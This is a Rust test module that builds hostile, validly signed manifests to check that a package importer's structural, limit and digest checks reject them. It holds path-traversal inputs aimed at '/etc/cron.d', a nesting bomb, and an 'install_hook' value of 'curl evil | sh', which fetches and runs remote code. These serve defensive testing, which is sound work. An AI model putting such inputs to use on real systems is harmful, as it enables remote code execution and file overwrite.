//! Manifests signed by a holder of the kit key that break the manifest rules, and signed members
//! whose content lies about itself. The signature is valid in every case: these prove that the
//! format's structural checks and the digest/size checks hold even against a compromised key.

use super::{format_case, Ctx};
use crate::fixture::{self, Kit, KitOptions, ADVISORIES_PATH, ATTESTATION_PATH, SNAPSHOT_PATH};
use crate::{Category, HostileCase, EXIT_VERIFICATION};
use ouk_format::digest::Sha256;
use ouk_format::manifest::Manifest;
use ouk_format::member_path::MemberPath;

const V: i32 = EXIT_VERIFICATION;
const GIB: u64 = 1 << 30;

fn resigned(ctx: &Ctx, edit: impl FnOnce(&mut Manifest)) -> Vec<u8> {
    let mut m = ctx.kit.manifest.clone();
    edit(&mut m);
    ctx.with_envelope(fixture::sign_manifest(&m))
}

fn resigned_json(ctx: &Ctx, edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut v = serde_json::to_value(&ctx.kit.manifest).unwrap_or_default();
    edit(&mut v);
    ctx.with_envelope(fixture::sign_manifest_json(&v))
}

fn resigned_raw(ctx: &Ctx, payload: Vec<u8>) -> Vec<u8> {
    ctx.with_envelope(fixture::sign_payload(
        ouk_format::media_types::MANIFEST_PAYLOAD_TYPE,
        payload,
        &[fixture::KeyName::Kit],
    ))
}

fn set_path(v: &mut serde_json::Value, index: usize, path: &str) {
    v["members"][index]["path"] = serde_json::json!(path);
}

fn path(p: &str) -> MemberPath {
    MemberPath::new(p).expect("fixture path")
}

fn replaced(blob: impl FnOnce(&Kit) -> Vec<u8>, declared: impl FnOnce(&Kit) -> Vec<u8>) -> Kit {
    let opts = KitOptions::default();
    let mut kit = Kit::build(&opts);
    let b = blob(&kit);
    let d = declared(&kit);
    kit.replace(ADVISORIES_PATH, b, d, &opts);
    kit
}

/// All manifest cases.
pub fn cases(ctx: &Ctx) -> Vec<HostileCase> {
    let c = |name: &str, kind: &'static str, bytes: Vec<u8>, desc: &str| {
        format_case(ctx, Category::Manifest, name, kind, V, bytes, desc)
    };
    let adv = ctx.kit.index_of(ADVISORIES_PATH);
    let snap = ctx.kit.index_of(SNAPSHOT_PATH);
    let att = ctx.kit.index_of(ATTESTATION_PATH);
    let adv_content = ctx.kit.contents[adv].clone();
    vec![
        // ---- member paths (validated when the manifest is parsed) ------------------------------------
        c("manifest_path_dotdot", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, "../../../etc/cron.d/ouk")),
          "A signed manifest naming a member `../../../etc/cron.d/ouk`: member paths are validated on parse, so a traversal path can never reach the filesystem layer."),
        c("manifest_path_absolute", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, "/etc/cron.d/ouk")),
          "A signed manifest naming an absolute member path."),
        c("manifest_path_backslash", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, "feeds\\..\\..\\evil")),
          "A signed manifest path with backslashes (traversal on Windows-style extractors)."),
        c("manifest_path_unicode_lookalike", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, "feeds/sn\u{0430}pshot.json")),
          "A signed manifest path with a Cyrillic look-alike letter: paths are ASCII-only."),
        c("manifest_path_dot_component", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, "feeds/./.hidden")),
          "A signed manifest path with `.` and hidden components."),
        c("manifest_path_too_long", "invalid_document",
          resigned_json(ctx, |v| set_path(v, snap, ["abcdefghij/"; 19].concat().trim_end_matches('/'))),
          "A signed manifest path longer than 180 bytes."),
        c("manifest_duplicate_path", "duplicate_path",
          resigned(ctx, |m| { let d = m.members[snap].clone(); m.members.push(d); }),
          "The same member listed twice in the signed manifest."),
        c("manifest_case_collision", "duplicate_path",
          resigned(ctx, |m| { let mut d = m.members[snap].clone(); d.path = path("feeds/Snapshot.json"); m.members.push(d); }),
          "Two member paths equal up to case: they would overwrite each other on case-insensitive file systems."),
        c("manifest_file_dir_conflict", "duplicate_path",
          resigned(ctx, |m| { let mut d = m.members[snap].clone(); d.path = path("feeds/snapshot.json/inner"); m.members.push(d); }),
          "A member path that uses another member as a directory."),
        // ---- structure -----------------------------------------------------------------------------
        c("manifest_unknown_field", "invalid_document",
          resigned_json(ctx, |v| v["install_hook"] = serde_json::json!("curl evil | sh")),
          "An unknown top-level field: `deny_unknown_fields` refuses what this version does not understand."),
        c("manifest_format_v2", "unsupported_format",
          resigned(ctx, |m| m.format = "ouk/2".into()),
          "A manifest of a format version this importer does not read."),
        c("manifest_invalid_timestamp", "invalid_document",
          resigned_json(ctx, |v| v["created_at"] = serde_json::json!("2026-01-01 00:00:00")),
          "A timestamp not in the one accepted spelling."),
        c("manifest_nesting_bomb", "limit_exceeded", {
            let payload = ctx.kit.manifest.to_payload();
            let depth = 100_000;
            let mut p = b"{\"annotations\":{\"x\":".to_vec();
            p.extend(std::iter::repeat_n(b'[', depth));
            p.extend(std::iter::repeat_n(b']', depth));
            p.extend_from_slice(b"},");
            p.extend_from_slice(&payload[1..]);
            resigned_raw(ctx, p)
          },
          "100 000 nested arrays in an annotation: refused at the format's 64-level nesting limit while parsing, before the stack can overflow."),
        c("manifest_not_json", "invalid_document", resigned_raw(ctx, b"\xef\xbb\xbfnot json".to_vec()),
          "A signed payload that is not JSON."),
        c("manifest_empty_members", "inconsistent_manifest",
          resigned(ctx, |m| m.members.clear()),
          "A signed manifest with no members."),
        c("manifest_bad_channel", "inconsistent_manifest",
          resigned(ctx, |m| m.channel = "../stable".into()),
          "A channel name with path characters (channels become directory names in the store)."),
        c("manifest_expires_before_created", "inconsistent_manifest",
          resigned(ctx, |m| m.expires_at = m.created_at),
          "expires_at not after created_at."),
        c("manifest_chunk_count_wrong", "inconsistent_manifest",
          resigned(ctx, |m| { m.members[adv].compressed.chunks.pop(); }),
          "One chunk digest fewer than the compressed size needs."),
        c("manifest_chunk_size_tiny", "inconsistent_manifest",
          resigned(ctx, |m| m.chunk_size = 1),
          "chunk_size 1 (one digest per byte would bloat the manifest and the reader's work)."),
        c("manifest_sbom_link_dangling", "inconsistent_manifest",
          resigned(ctx, |m| m.members[adv].sbom = Some(path("sbom/missing.spdx.json"))),
          "A payload whose `sbom` link names no SBOM member."),
        c("manifest_two_attestations", "inconsistent_manifest",
          resigned(ctx, |m| { let mut d = m.members[att].clone(); d.path = path("attestation/second.dsse.json"); m.members.push(d); }),
          "Two attestation members (which one would be checked?)."),
        // ---- limits ---------------------------------------------------------------------------------
        c("manifest_too_many_members", "limit_exceeded",
          resigned(ctx, |m| {
              let template = m.members[snap].clone();
              m.members = (0..4097).map(|i| { let mut d = template.clone(); d.path = path(&format!("feeds/m{i}.json")); d }).collect();
          }),
          "4097 members (limit 4096): inode and bookkeeping exhaustion refused from the manifest alone."),
        c("manifest_member_too_large", "limit_exceeded",
          resigned(ctx, |m| m.members[adv].compressed.size = 1 << 50),
          "A member declaring 1 PiB of compressed data (a valid JSON integer, over the 64 GiB cap)."),
        c("manifest_total_too_large", "limit_exceeded",
          resigned(ctx, |m| for mm in m.members.iter_mut().skip(1) { mm.uncompressed.size = 200 * GIB; }),
          "Three members of 200 GiB each: every member is under the per-member cap, the sum is over the 512 GiB total (disk exhaustion)."),
        // ---- signed content that lies ------------------------------------------------------------------
        c("declared_size_too_big", "uncompressed_size_mismatch",
          replaced(|k| k.blobs[adv].clone(), |_| [adv_content.as_slice(), b"\n"].concat()).bytes(),
          "A member that decompresses to one byte less than its signed declared size."),
        c("uncompressed_digest_wrong", "uncompressed_digest_mismatch",
          replaced(|k| k.blobs[adv].clone(), |_| { let mut d = adv_content.clone(); d[100] ^= 1; d }).bytes(),
          "A member whose content differs from its signed content digest (same size): nothing is released as trusted until the whole-content digest matches."),
        c("compressed_digest_wrong", "compressed_digest_mismatch", {
            let mut m = ctx.kit.manifest.clone();
            m.members[adv].compressed.sha256 = Sha256::of(b"something else");
            ctx.with_envelope(fixture::sign_manifest(&m))
          },
          "Every chunk digest right, the whole-member digest wrong: both are checked."),
        c("signed_garbage_not_zstd", "decompression",
          replaced(|_| vec![0x55; 100_000], |_| vec![0u8; 1024]).bytes(),
          "Authenticated bytes that are not a zstd stream: a decoder error, reported as such."),
        c("zstd_then_garbage", "decompression",
          replaced(|k| [k.blobs[adv].as_slice(), b"JUNKJUNKJUNKJUNK"].concat(), |_| adv_content.clone()).bytes(),
          "A valid zstd stream followed by authenticated junk in the same member."),
    ]
}
